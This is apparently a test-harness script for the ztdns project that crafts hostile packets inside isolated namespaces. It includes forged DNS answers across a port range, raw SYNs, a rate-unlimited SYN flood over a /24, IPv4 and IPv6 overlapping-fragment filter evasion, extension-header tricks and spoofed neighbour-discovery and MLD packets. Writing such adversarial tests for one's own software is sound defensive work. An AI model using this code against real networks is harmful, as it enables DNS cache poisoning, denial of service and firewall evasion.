#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""advnet.py — hostile traffic for the ztdns adversarial and fault tests
(python3 standard library only; raw sockets need CAP_NET_RAW, the tests run
as root inside their own namespaces). Every command is bounded in packets and
in time, and stops by itself.

Packets are built by hand and sent through IP-level raw sockets
(IPPROTO_RAW, header included): they go through the netfilter OUTPUT path
like any locally generated packet, so ztdns sees them (an AF_PACKET socket
would not: see the report of t_adversarial.sh).

  spoof   --src A --dst B --name N --addr X [--ports LO-HI] [--ids K]
          [--max-seconds S]
          forged plain-DNS answers "N A X" from A:53 to B:port for every port
          of the range, K random IDs each (a normal UDP socket bound to A:53:
          the sender owns A in its namespace, the receiver cannot tell).
  syn     --dst D [--src S] [--port P] [--count N]
          N TCP SYNs from S (default: the route's source) to D:P over a raw
          socket: for addresses an ordinary socket would rewrite (an
          IPv4-mapped IPv6 destination is sent as IPv4 by connect()).
  v6ext   --src S --dst D --kind K [--port P]
          one IPv6 packet whose TCP SYN hides behind extension headers:
          K = hbh-dst-rt (Hop-by-Hop, Destination Options, Routing type 4
          with segments left 0, then TCP), long (9 Destination Options headers,
          more than the parser's 8), atomic (a fragment header with offset 0
          and M=0: RFC 6946), frag (a real two-fragment packet), overlap (two
          overlapping fragments).
  v4frag  --src S --dst D --kind K [--port P]
          K = first8 (a first fragment carrying only 8 bytes of TCP, the
          flags in the second fragment), overlap (the second fragment
          overwrites the ports of the first).
  nd      --src S --dst D --kind K [--hlim H] [--extra N] [--target T]
          one ICMPv6 packet shaped like neighbour discovery or MLD:
          K = ns (a Neighbour Solicitation for T, default D, with a source
          link-layer address option and N more bytes of options), mobility,
          hip, shim6 (that NS behind a Mobility/HIP/Shim6 header, which the
          kernel does not skip: for it the packet is protocol 135/139/140),
          mld (an MLDv2 report, type 143). Hop limit H (default 255; 1 for
          mld).
  synflood --dst-net A.B.C.0/24 --count N [--max-seconds S] [--port P]
          N TCP SYNs over one raw socket to the hosts of a /24 (a new flow
          each: the source port changes), paced by nothing: as fast as the
          socket goes. Prints sent, errors and the rate.
  load    --targets ADDR:PORT,... --rate R --seconds T [--timeout S]
          [--out FILE] [--stats-every S]
          about R new TCP connections per second for T seconds, round-robin
          over the targets (each connects, sends a line, reads it back, closes;
          at most 256 in flight). Prints per target: ok, fail; and the
          longest run of consecutive failures (in time) per target.
"""
import argparse
import ipaddress
import os
import random
import select
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def tcp_syn(src, dst, sport, dport, seq=None, v6=False):
    """A 20-byte TCP SYN header with a correct checksum."""
    seq = random.getrandbits(32) if seq is None else seq
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    if v6:
        pseudo = (socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst)
                  + struct.pack("!IxxxB", len(hdr), 6))
    else:
        pseudo = (socket.inet_pton(socket.AF_INET, src) + socket.inet_pton(socket.AF_INET, dst)
                  + struct.pack("!BBH", 0, 6, len(hdr)))
    c = csum(pseudo + hdr)
    return hdr[:16] + struct.pack("!H", c) + hdr[18:]


def ip4(src, dst, proto, payload, ident=None, frag=0, mf=False):
    ident = random.getrandbits(16) if ident is None else ident
    flags_off = (0x2000 if mf else 0) | (frag // 8)
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, flags_off, 64, proto, 0,
                    socket.inet_pton(socket.AF_INET, src), socket.inet_pton(socket.AF_INET, dst))
    h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
    return h + payload


def ip6(src, dst, nh, payload, hlim=64):
    return struct.pack("!IHBB16s16s", 6 << 28, len(payload), nh, hlim,
                       socket.inet_pton(socket.AF_INET6, src),
                       socket.inet_pton(socket.AF_INET6, dst)) + payload


def ext_opts(nh):
    """Hop-by-Hop or Destination Options header, 8 bytes: one PadN option."""
    return struct.pack("!BBBB", nh, 0, 1, 4) + b"\0" * 4


def ext_routing(nh):
    """Routing header type 4 (SRH, RFC 8754) with segments left 0 and one
    segment: processed as 'done', the destination is final."""
    return struct.pack("!BBBBBBH", nh, 2, 4, 0, 0, 0, 0) + b"\0" * 16


def ext_frag(nh, off, mf, ident):
    return struct.pack("!BBHI", nh, 0, (off // 8) << 3 | (1 if mf else 0), ident)


def route_src(dst):
    fam = socket.AF_INET6 if ":" in dst else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        s.connect((dst, 9))
        return s.getsockname()[0]
    finally:
        s.close()


def raw_sock(v6):
    if v6:
        return socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def send_raw(pkts, dst):
    v6 = ":" in dst
    s = raw_sock(v6)
    sent = err = 0
    for p in pkts:
        try:
            s.sendto(p, (dst, 0))
            sent += 1
        except OSError as e:
            err += 1
            print("sendto %s: %s" % (dst, e), file=sys.stderr)
    s.close()
    print("sent=%d errors=%d" % (sent, err))
    return 0 if sent else 1


# ---------------------------------------------------------------- commands

def dns_answer(qid, name, addr, ttl=300):
    qn = b"".join(bytes([len(l)]) + l.encode() for l in name.strip(".").split(".")) + b"\0"
    hdr = struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0)
    ans = struct.pack("!HHHIH", 0xC00C, 1, 1, ttl, 4) + socket.inet_pton(socket.AF_INET, addr)
    return hdr + qn + struct.pack("!HH", 1, 1) + ans


def cmd_spoof(a):
    lo, hi = (int(x) for x in a.ports.split("-"))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((a.src, 53))
    s.setblocking(False)
    sent = err = 0
    deadline = time.monotonic() + a.max_seconds
    for port in range(lo, hi + 1):
        if time.monotonic() > deadline:
            break
        for _ in range(a.ids):
            m = dns_answer(random.getrandbits(16), a.name, a.addr)
            for attempt in range(50):
                try:
                    s.sendto(m, (a.dst, port))
                    sent += 1
                    break
                except BlockingIOError:
                    select.select([], [s], [], 0.01)
                except OSError:
                    err += 1
                    break
    print("sent=%d errors=%d" % (sent, err))
    return 0


def cmd_syn(a):
    v6 = ":" in a.dst
    src = a.src or route_src(a.dst)
    pkts = []
    for _ in range(a.count):
        t = tcp_syn(src, a.dst, random.randrange(20000, 60000), a.port, v6=v6)
        pkts.append(ip6(src, a.dst, 6, t) if v6 else ip4(src, a.dst, 6, t))
    return send_raw(pkts, a.dst)


def cmd_v6ext(a):
    src, dst = a.src, a.dst
    t = tcp_syn(src, dst, random.randrange(20000, 60000), a.port, v6=True)
    ident = random.getrandbits(32)
    if a.kind == "hbh-dst-rt":
        pl = ext_opts(60) + ext_opts(43) + ext_routing(6) + t
        return send_raw([ip6(src, dst, 0, pl)], dst)
    if a.kind == "long":
        n = 9
        pl = b"".join(ext_opts(60) for _ in range(n - 1)) + ext_opts(6) + t
        return send_raw([ip6(src, dst, 60, pl)], dst)
    if a.kind == "atomic":
        return send_raw([ip6(src, dst, 44, ext_frag(6, 0, False, ident) + t)], dst)
    # A TCP SYN with 24 bytes of payload, in two fragments (8-byte units).
    body = t + b"x" * 24
    if a.kind == "frag":
        f1 = ip6(src, dst, 44, ext_frag(6, 0, True, ident) + body[:24])
        f2 = ip6(src, dst, 44, ext_frag(6, 24, False, ident) + body[24:])
        return send_raw([f1, f2], dst)
    if a.kind == "overlap":
        f1 = ip6(src, dst, 44, ext_frag(6, 0, True, ident) + body[:24])
        f2 = ip6(src, dst, 44, ext_frag(6, 16, False, ident) + b"y" * 8 + body[24:])
        return send_raw([f1, f2], dst)
    print("unknown kind %s" % a.kind, file=sys.stderr)
    return 2


def icmp6(src, dst, body):
    """An ICMPv6 message (RFC 4443 §2.3 checksum over the pseudo-header)."""
    pseudo = (socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst)
              + struct.pack("!IxxxB", len(body), 58))
    c = csum(pseudo + body)
    return body[:2] + struct.pack("!H", c) + body[4:]


def cmd_nd(a):
    src, dst = a.src, a.dst
    target = socket.inet_pton(socket.AF_INET6, a.target or dst)
    if a.kind == "mld":
        # RFC 3810 §5.2: type 143, one record (mode 4 = change to exclude).
        rec = struct.pack("!BBH", 4, 0, 0) + socket.inet_pton(socket.AF_INET6, "ff12::1234")
        body = icmp6(src, dst, struct.pack("!BBHHH", 143, 0, 0, 0, 1) + rec)
        return send_raw([ip6(src, dst, 58, body, hlim=a.hlim if a.hlim is not None else 1)], dst)
    # RFC 4861 §4.3: type 135, reserved, target; option 1 (source link-layer
    # address, 8 bytes), then N bytes of an option type nobody knows (253).
    opts = struct.pack("!BB6s", 1, 1, b"\x02\x00\x00\x00\x00\x01")
    if a.extra:
        units = (a.extra + 7) // 8
        opts += struct.pack("!BB", 253, units) + b"x" * (units * 8 - 2)
    ns = struct.pack("!BBHI", 135, 0, 0, 0) + target + opts
    hlim = a.hlim if a.hlim is not None else 255
    if a.kind == "ns":
        return send_raw([ip6(src, dst, 58, icmp6(src, dst, ns), hlim=hlim)], dst)
    nh = {"mobility": 135, "hip": 139, "shim6": 140}.get(a.kind)
    if nh is None:
        print("unknown kind %s" % a.kind, file=sys.stderr)
        return 2
    # An 8-byte header of that type whose Next Header is ICMPv6.
    wrap = struct.pack("!BB", 58, 0) + b"\0" * 6
    return send_raw([ip6(src, dst, nh, wrap + icmp6(src, dst, ns), hlim=hlim)], dst)


def cmd_v4frag(a):
    src, dst = a.src, a.dst
    t = tcp_syn(src, dst, random.randrange(20000, 60000), a.port)
    body = t + b"z" * 16
    ident = random.getrandbits(16)
    if a.kind == "first8":
        # 8 bytes of TCP (ports and sequence number) in the first fragment:
        # the flags are in the second one.
        f1 = ip4(src, dst, 6, body[:8], ident=ident, frag=0, mf=True)
        f2 = ip4(src, dst, 6, body[8:], ident=ident, frag=8, mf=False)
        return send_raw([f1, f2], dst)
    if a.kind == "overlap":
        # The second fragment starts at 0 again: it would overwrite the
        # ports with other ones (a classic filter evasion).
        other = tcp_syn(src, dst, 1, 22)
        f1 = ip4(src, dst, 6, body[:16], ident=ident, frag=0, mf=True)
        f2 = ip4(src, dst, 6, other[:8] + body[8:], ident=ident, frag=0, mf=False)
        return send_raw([f1, f2], dst)
    print("unknown kind %s" % a.kind, file=sys.stderr)
    return 2


def cmd_synflood(a):
    net = ipaddress.ip_network(a.dst_net)
    hosts = [str(h) for h in net.hosts()]
    src = a.src or route_src(hosts[0])
    s = raw_sock(False)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    sent = err = 0
    t0 = time.monotonic()
    deadline = t0 + a.max_seconds
    ident = 0
    # Precomputed TCP headers, one per source port (checksum depends on the
    # destination too: the destination is picked from the same index).
    for i in range(a.count):
        if (i & 1023) == 0 and time.monotonic() > deadline:
            break
        dst = hosts[i % len(hosts)]
        sport = 1024 + (i // len(hosts)) % 60000
        ident = (ident + 1) & 0xFFFF
        p = ip4(src, dst, 6, tcp_syn(src, dst, sport, a.port, seq=i), ident=ident)
        try:
            s.sendto(p, (dst, 0))
            sent += 1
        except OSError:
            err += 1
    el = time.monotonic() - t0
    s.close()
    print("sent=%d errors=%d seconds=%.2f pps=%.0f" % (sent, err, el, sent / el if el else 0))
    return 0


def cmd_load(a):
    targets = []
    for t in a.targets.split(","):
        h, p = t.rsplit(":", 1)
        targets.append((h.strip("[]"), int(p)))
    stats = {t: {"ok": 0, "fail": 0, "last_ok": None, "worst_gap": 0.0, "first_fail": None}
             for t in targets}
    inflight = {}  # fd -> [sock, target, t0, state]
    poller = select.poll()
    interval = 1.0 / a.rate
    t_start = time.monotonic()
    t_end = t_start + a.seconds
    next_at = t_start
    i = 0
    out = open(a.out, "a", buffering=1) if a.out else None
    last_stats = t_start

    def finish(fd, good):
        s, tgt, t0, _ = inflight.pop(fd)
        try:
            poller.unregister(fd)
        except (KeyError, ValueError):
            pass
        s.close()
        st = stats[tgt]
        now = time.monotonic()
        if good:
            st["ok"] += 1
            if st["last_ok"] is not None:
                st["worst_gap"] = max(st["worst_gap"], now - st["last_ok"])
            st["last_ok"] = now
        else:
            st["fail"] += 1
            if st["first_fail"] is None:
                st["first_fail"] = now - t_start

    hard_end = t_end + a.timeout + 1
    while time.monotonic() < hard_end:
        now = time.monotonic()
        while now < t_end and now >= next_at and len(inflight) < 256:
            tgt = targets[i % len(targets)]
            i += 1
            next_at += interval
            fam = socket.AF_INET6 if ":" in tgt[0] else socket.AF_INET
            s = socket.socket(fam, socket.SOCK_STREAM)
            s.setblocking(False)
            try:
                s.connect(tgt)
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                stats[tgt]["fail"] += 1
                continue
            inflight[s.fileno()] = [s, tgt, now, "connect"]
            poller.register(s.fileno(), select.POLLOUT)
        if now >= t_end and not inflight:
            break
        if out and now - last_stats >= a.stats_every:
            last_stats = now
            out.write("%.3f %s\n" % (now - t_start, " ".join(
                "%s:%d=%d/%d" % (t[0], t[1], stats[t]["ok"], stats[t]["fail"]) for t in targets)))
        for fd, ev in poller.poll(5):
            ent = inflight.get(fd)
            if not ent:
                continue
            s = ent[0]
            if ent[3] == "connect":
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0 or ev & (select.POLLERR | select.POLLHUP):
                    finish(fd, False)
                    continue
                try:
                    s.send(b"load\n")
                except OSError:
                    finish(fd, False)
                    continue
                ent[3] = "read"
                poller.modify(fd, select.POLLIN)
            else:
                try:
                    d = s.recv(64)
                except OSError:
                    d = b""
                finish(fd, d == b"load\n")
        now = time.monotonic()
        for fd in [fd for fd, e in inflight.items() if now - e[2] > a.timeout]:
            finish(fd, False)
    for fd in list(inflight):
        finish(fd, False)
    el = time.monotonic() - t_start
    for t in targets:
        st = stats[t]
        print("target=%s:%d ok=%d fail=%d worst_gap_s=%.3f first_fail_s=%s" % (
            t[0], t[1], st["ok"], st["fail"], st["worst_gap"],
            "%.3f" % st["first_fail"] if st["first_fail"] is not None else "-"))
    print("total attempts=%d seconds=%.2f rate=%.0f" % (i, el, i / el if el else 0))
    if out:
        out.close()
    return 0


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    c = sub.add_parser("spoof")
    c.add_argument("--src", required=True)
    c.add_argument("--dst", required=True)
    c.add_argument("--name", required=True)
    c.add_argument("--addr", required=True)
    c.add_argument("--ports", default="1024-65535")
    c.add_argument("--ids", type=int, default=1)
    c.add_argument("--max-seconds", type=float, default=30)
    c = sub.add_parser("syn")
    c.add_argument("--dst", required=True)
    c.add_argument("--src")
    c.add_argument("--port", type=int, default=7001)
    c.add_argument("--count", type=int, default=1)
    c = sub.add_parser("v6ext")
    c.add_argument("--src", required=True)
    c.add_argument("--dst", required=True)
    c.add_argument("--kind", required=True)
    c.add_argument("--port", type=int, default=7001)
    c = sub.add_parser("nd")
    c.add_argument("--src", required=True)
    c.add_argument("--dst", required=True)
    c.add_argument("--kind", required=True)
    c.add_argument("--hlim", type=int)
    c.add_argument("--extra", type=int, default=0)
    c.add_argument("--target")
    c = sub.add_parser("v4frag")
    c.add_argument("--src", required=True)
    c.add_argument("--dst", required=True)
    c.add_argument("--kind", required=True)
    c.add_argument("--port", type=int, default=7001)
    c = sub.add_parser("synflood")
    c.add_argument("--dst-net", required=True)
    c.add_argument("--src")
    c.add_argument("--count", type=int, default=100000)
    c.add_argument("--port", type=int, default=7001)
    c.add_argument("--max-seconds", type=float, default=60)
    c = sub.add_parser("load")
    c.add_argument("--targets", required=True)
    c.add_argument("--rate", type=float, default=200)
    c.add_argument("--seconds", type=float, default=10)
    c.add_argument("--timeout", type=float, default=2)
    c.add_argument("--out")
    c.add_argument("--stats-every", type=float, default=0.5)
    a = p.parse_args()
    return {"spoof": cmd_spoof, "syn": cmd_syn, "v6ext": cmd_v6ext, "nd": cmd_nd, "v4frag": cmd_v4frag,
            "synflood": cmd_synflood, "load": cmd_load}[a.cmd](a)


if __name__ == "__main__":
    sys.exit(main())
